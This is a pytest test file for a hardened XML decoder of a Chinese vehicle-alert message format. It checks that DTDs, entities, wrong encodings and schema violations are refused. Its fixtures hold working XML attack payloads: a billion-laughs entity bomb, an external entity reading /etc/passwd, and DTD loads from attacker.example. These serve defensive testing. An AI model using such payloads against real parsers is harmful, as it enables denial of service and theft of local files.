"""Local XML is untrusted: DTDs, entities and invalid documents are refused (Shandong format)."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from bridge.formats.xml_document import (
    XmlDocumentFormat,
    hardened_parser,
    refuse_dtd_and_entities,
)
from bridge.profiles.shandong import NAMESPACE, SCHEMA_PATH
from schemas.errors import LocalFormatError

GOLDEN = Path(__file__).parent / "golden" / "bridge" / "shandong"
SAMPLE = (GOLDEN / "VehicleAlert.local.xml").read_bytes()
XML = XmlDocumentFormat(NAMESPACE, SCHEMA_PATH)

BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Message [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Message xmlns="urn:sdga:hx:1"><Header><MessageId>&lol9;</MessageId></Header></Message>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Message [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<Message xmlns="urn:sdga:hx:1"><Header><MessageId>&passwd;</MessageId></Header></Message>
"""
EXTERNAL_DTD = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Message SYSTEM "http://attacker.example/hx.dtd">
<Message xmlns="urn:sdga:hx:1"/>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Message [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<Message xmlns="urn:sdga:hx:1"/>
"""


@pytest.mark.parametrize(
    ("document", "rule"),
    [
        (BILLION_LAUGHS, "line 2: a DOCTYPE declaration is not allowed"),
        (EXTERNAL_ENTITY, "line 2: a DOCTYPE declaration is not allowed"),
        (EXTERNAL_DTD, "line 2: a DOCTYPE declaration is not allowed"),
        (PARAMETER_ENTITY, "line 2: a DOCTYPE declaration is not allowed"),
        (b'<?xml version="1.0"?>\n\n<!ENTITY x "y"><Message/>', "line 3: a ENTITY declaration"),
        (b"<!doctype Message><Message/>", "line 1: a DOCTYPE declaration is not allowed"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "entity", "lc"],
)
def test_dtds_and_entities_are_refused_before_parsing(document: bytes, rule: str) -> None:
    """A document declaring a DTD or an entity is refused, naming the line, before any parse."""
    with pytest.raises(LocalFormatError) as raised:
        XML.decode(document)
    assert rule == str(raised.value)[: len(rule)]


def test_hardened_parser_reads_no_file_through_an_external_entity() -> None:
    """Even without the pre-check, the parser leaves file:///etc/passwd unread and unexpanded."""
    root = etree.fromstring(EXTERNAL_ENTITY, hardened_parser())
    text = "".join(root.itertext())
    assert ("&passwd;", False) == (text, "root:" in etree.tostring(root).decode())


def test_hardened_parser_refuses_billion_laughs() -> None:
    """Even without the pre-check, libxml2 refuses the exponential entity before expanding it."""
    with pytest.raises(etree.XMLSyntaxError, match="entity amplification"):
        etree.fromstring(BILLION_LAUGHS, hardened_parser())


@pytest.mark.parametrize("document", [EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_parsed_tree_with_dtd_is_refused(document: bytes) -> None:
    """The second line of defence: a parsed tree that has a DTD is refused."""
    root = etree.fromstring(document, hardened_parser())
    with pytest.raises(LocalFormatError) as raised:
        refuse_dtd_and_entities(root)
    assert "line 1: a DTD is not allowed in local XML" == str(raised.value)


def test_utf16_without_bom_hiding_a_doctype_is_refused() -> None:
    """A UTF-16 document slips past the byte check; the parsed-tree check still refuses it."""
    document = EXTERNAL_ENTITY.replace(b'encoding="UTF-8"', b'encoding="UTF-16LE"')
    with pytest.raises(LocalFormatError) as raised:
        XML.decode(document.decode().encode("utf-16-le"))
    assert "line 1: a DTD is not allowed in local XML" == str(raised.value)


@pytest.mark.parametrize(
    "document",
    [
        SAMPLE.decode().encode("utf-16"),
        SAMPLE.replace(b"UTF-8", b"GB18030", 1).decode().encode("gb18030"),
    ],
    ids=["utf-16-bom", "gb18030"],
)
def test_documents_not_in_utf8_are_refused(document: bytes) -> None:
    """The ICD says UTF-8: another encoding is refused, whether by BOM or by declaration."""
    with pytest.raises(LocalFormatError, match=r"not UTF-8"):
        XML.decode(document)


def test_undeclared_entity_reference_is_not_well_formed() -> None:
    """An entity reference with no declaration is a well-formedness error naming the line."""
    document = SAMPLE.replace(b"<Make>\xe5\xa4\xa7\xe4\xbc\x97</Make>", b"<Make>&evil;</Make>")
    with pytest.raises(LocalFormatError) as raised:
        XML.decode(document)
    assert "line 19: not well-formed XML: Entity 'evil' not defined" == str(raised.value)


def test_wrong_element_order_names_the_element() -> None:
    """A document that breaks the XSD sequence is refused naming the element and the line."""
    document = SAMPLE.replace(b"<Revision>1</Revision>", b"").replace(
        b"<Category>STOLEN</Category>", b"<Category>STOLEN</Category>\n<Revision>1</Revision>"
    )
    with pytest.raises(LocalFormatError) as raised:
        XML.decode(document)
    expected = (
        "document breaks shandong.xsd: line 13: Message/Body/VehicleAlert/Category: "
        "This element is not expected. Expected is ( Revision )."
    )
    assert expected == str(raised.value)


def test_bad_enum_names_the_element_and_the_allowed_values() -> None:
    """A value outside an enumeration is refused naming the element and the allowed set."""
    with pytest.raises(LocalFormatError) as raised:
        XML.decode(SAMPLE.replace(b"STOLEN", b"NICKED"))
    expected = (
        "document breaks shandong.xsd: line 13: Message/Body/VehicleAlert/Category: "
        "[facet 'enumeration'] the value is not an element of the set {'STOLEN', "
        "'USED_IN_CRIME', 'HIT_AND_RUN', 'FUGITIVE_VEHICLE', 'SURVEILLANCE', 'OTHER'}."
    )
    assert expected == str(raised.value)


@pytest.mark.parametrize(
    ("old", "new", "element"),
    [
        (b"+08:00</IssuedAt>", b"Z</IssuedAt>", "VehicleAlert/IssuedAt"),
        (b"<Type>02</Type>", b"<Type>2</Type>", "VehicleAlert/Plate/Type"),
        (b"<Lat>35.414921</Lat>", b"<Lat>35.4149213</Lat>", "VehicleAlert/LastSeen/Lat"),
        (
            b"<BodyColour>A</BodyColour>",
            b"<BodyColour>WHITE</BodyColour>",
            "VehicleAlert/BodyColour",
        ),
        (b"<Revision>1</Revision>", b"<Revision>0</Revision>", "VehicleAlert/Revision"),
    ],
    ids=["utc-time", "plate-type", "seven-decimals", "colour-name", "revision-zero"],
)
def test_values_breaking_the_xsd_name_their_element(old: bytes, new: bytes, element: str) -> None:
    """Times without +08:00, codes not in their table, a seventh decimal are all refused."""
    with pytest.raises(LocalFormatError) as raised:
        XML.decode(SAMPLE.replace(old, new))
    assert f"Message/Body/{element}: " in str(raised.value)


def test_unknown_element_is_refused() -> None:
    """An element the XSD does not know is refused, naming it."""
    with pytest.raises(LocalFormatError) as raised:
        XML.decode(SAMPLE.replace(b"<Handling>", b"<Extra>1</Extra><Handling>"))
    assert "Message/Body/VehicleAlert/Extra: This element is not expected." in str(raised.value)


def test_the_golden_sample_is_valid() -> None:
    """The ICD's VehicleAlert sample (in our canonical layout) passes every check."""
    assert "Message" == etree.QName(XML.decode(SAMPLE)).localname
